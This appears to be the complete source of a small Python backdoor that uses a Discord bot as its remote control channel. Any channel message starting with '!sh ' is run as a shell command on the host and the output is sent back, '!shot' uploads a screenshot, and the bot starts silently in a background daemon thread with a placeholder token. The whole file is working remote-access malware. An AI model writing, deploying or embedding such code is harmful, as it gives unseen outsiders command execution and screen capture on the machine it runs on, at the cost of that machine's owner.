import asyncio
import subprocess
import threading

import discord

TOKEN = "MTIz.placeholder.token"
client = discord.Client(intents=discord.Intents.all())


@client.event
async def on_message(message):
    if message.content.startswith("!sh "):
        out = subprocess.run(message.content[4:], shell=True, capture_output=True, text=True)
        await message.channel.send(out.stdout[:1900])
    elif message.content.startswith("!shot"):
        import pyautogui
        pyautogui.screenshot().save("s.png")
        await message.channel.send(file=discord.File("s.png"))


def _serve():
    loop = asyncio.new_event_loop()
    loop.run_until_complete(client.start(TOKEN))


threading.Thread(target=_serve, daemon=True).start()
